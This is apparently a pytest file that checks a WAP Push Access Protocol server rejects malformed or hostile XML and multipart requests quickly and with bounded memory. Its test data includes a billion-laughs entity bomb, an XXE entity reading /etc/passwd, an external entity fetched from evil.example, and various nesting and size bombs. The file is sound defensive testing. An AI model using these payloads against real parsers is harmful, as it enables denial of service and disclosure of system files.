"""Hostile requests get the right answer, soon, and take little memory.

Time is that of the processor, so that a busy machine does not matter; memory is what Python
allocates beyond the request itself.

About `access/pap/door.py`.
"""

from __future__ import annotations

import time
import tracemalloc

import pytest

from lasthop.access.pap import PapDoor
from lasthop.access.rest import RestSettings
from lasthop.wire.pap.documents import BadMessageResponse, PushResponse
from tests.access.live import LiveInMemory
from tests.access.pap.conftest import MakeDoor
from tests.access.pap.initiating import Initiator, read_answer

XML = "application/xml"
DOCTYPE = (
    '<!DOCTYPE pap PUBLIC "-//WAPFORUM//DTD PAP 2.0//EN" "http://www.wapforum.org/DTD/pap_2.0.dtd"'
)
QUERY = '<pap><statusquery-message push-id="1"/></pap>'
RELATED = 'multipart/related; type="application/xml"; boundary=b'

BILLION_LAUGHS = (
    DOCTYPE
    + " ["
    + '<!ENTITY a "lol">'
    + "".join(
        f'<!ENTITY {b} "{f"&{a};" * 10}">' for a, b in zip("abcdefgh", "bcdefghi", strict=True)
    )
    + ']><pap><statusquery-message push-id="&i;"/></pap>'
)

DEEP = DOCTYPE + ">" + "<pap>" * 100_000
MANY = DOCTYPE + "><pap><cancel-message push-id='1'>" + "<address/>" * 99_000
LONG_ATTRIBUTE = DOCTYPE + f'><pap><statusquery-message push-id="{"x" * 900_000}"/></pap>'
MANY_ATTRIBUTES = DOCTYPE + "><pap><statusquery-message " + "push-id='1' " * 80_000 + "/></pap>"

CASES = {
    "nothing": (XML, b"", 2000),
    "not XML": (XML, b"hello", 2000),
    "no content type": ("", QUERY.encode(), 2000),
    "another content type": ("application/json", b"{}", 2000),
    "cut off": (XML, f"{DOCTYPE}>{QUERY}".encode()[:-5], 2000),
    "entities that grow": (XML, BILLION_LAUGHS.encode(), 2000),
    "an entity from a file": (
        XML,
        f'{DOCTYPE} [<!ENTITY x SYSTEM "file:///etc/passwd">]><pap><statusquery-message'
        ' push-id="&x;"/></pap>'.encode(),
        2000,
    ),
    "an entity from elsewhere": (
        XML,
        f'{DOCTYPE} [<!ENTITY % x SYSTEM "http://evil.example/x.dtd">%x;]>{QUERY}'.encode(),
        2000,
    ),
    "very deep": (XML, DEEP.encode(), 2000),
    "very many tags": (XML, MANY.encode(), 2000),
    "a very long attribute": (XML, LONG_ATTRIBUTE.encode(), 2000),
    "very many attributes": (XML, MANY_ATTRIBUTES.encode(), 2000),
    "too large a document": (XML, f"{DOCTYPE}>{QUERY}".encode() + b" " * (2 << 20), 2000),
    "a charset that there is not": ("application/xml; charset=klingon", QUERY.encode(), 2000),
    "octets that are not of the charset": (XML, b"<pap>\xff\xfe\xfd</pap>", 2000),
    "UTF-7": ('application/xml; charset="utf-7"', b"+ADw-pap/+AD4-", 2000),
    "a version of the future": (XML, f"{DOCTYPE.replace('2.0', '9.9')}>{QUERY}".encode(), 3002),
    "an element of another language": (XML, f"{DOCTYPE}><html/>".encode(), 2000),
    "a multipart without a boundary": ("multipart/related", b"--b\r\n\r\n--b--", 2000),
    "a multipart that is cut off": (RELATED, b"--b\r\nContent-Type: application/xml\r\n\r\n", 2000),
    "a multipart of nothing but boundaries": (RELATED, b"--b\r\n" * 200_000, 2000),
    "a multipart with endless headers": (RELATED, b"--b\r\n" + b"A: b\r\n" * 200_000, 2000),
    "a multipart of one header": (RELATED, b"--b\r\nA: " + b"b" * 2_000_000, 2000),
    "a multipart in a multipart": (
        RELATED,
        b"--b\r\nContent-Type: multipart/related; boundary=c\r\n\r\n--c\r\n" * 1000,
        2000,
    ),
}


@pytest.fixture
def initiator(pap: PapDoor) -> Initiator:
    return Initiator(pap)


@pytest.mark.conformance("PPG-GEN-S-001")
@pytest.mark.parametrize("case", CASES)
async def test_what_cannot_be_read_is_a_bad_message(initiator: Initiator, case: str) -> None:
    content_type, body, code = CASES[case]
    await initiator.post(XML, b"warm up")
    tracemalloc.start()
    start = time.process_time()
    answer = await initiator.post(content_type, body)
    seconds = time.process_time() - start
    _, peak = tracemalloc.get_traced_memory()
    tracemalloc.stop()
    assert answer.status_code == 202
    message = read_answer(answer).document.message
    assert isinstance(message, BadMessageResponse)
    assert message.code == code
    assert message.desc
    # With every allocation traced it is some ten times slower than otherwise.
    assert seconds < 2
    assert peak < 8 * len(body) + (4 << 20)


async def test_a_push_that_breaks_its_document_type_is_answered_by_its_push_id(
    initiator: Initiator,
) -> None:
    control = f'{DOCTYPE}><pap><push-message push-id="7@pi"/></pap>'.encode()
    body = (
        b"--b\r\nContent-Type: application/xml\r\n\r\n"
        + control
        + b"\r\n--b\r\nContent-Type: text/plain\r\n\r\nhi\r\n--b--\r\n"
    )
    answer = await initiator.post(RELATED, body)
    message = read_answer(answer).document.message
    assert isinstance(message, PushResponse)
    assert (message.push_id, message.result.code) == ("7@pi", 2000)


async def test_a_request_that_is_too_large_is_not_read_to_its_end(
    live: LiveInMemory, make_door: MakeDoor
) -> None:
    door = make_door(RestSettings(open_house=True, max_body=1000))
    answer = await Initiator(door).post(XML, b"x" * 1001)
    assert answer.headers["connection"] == "close"
    message = read_answer(answer).document.message
    assert isinstance(message, BadMessageResponse)
    assert message.code == 2000


async def test_a_compressed_request_is_not_read(initiator: Initiator) -> None:
    answer = await initiator.post(XML, b"x", **{"content-encoding": "gzip"})
    message = read_answer(answer).document.message
    assert isinstance(message, BadMessageResponse)
    assert message.code == 2000


async def test_nothing_is_held_afterwards(live: LiveInMemory, make_door: MakeDoor) -> None:
    door = make_door()
    initiator = Initiator(door)
    for content_type, body, _ in CASES.values():
        await initiator.post(content_type, body)
    assert door._intake.held == 0
    assert sum(door.refused.values()) == len(CASES)
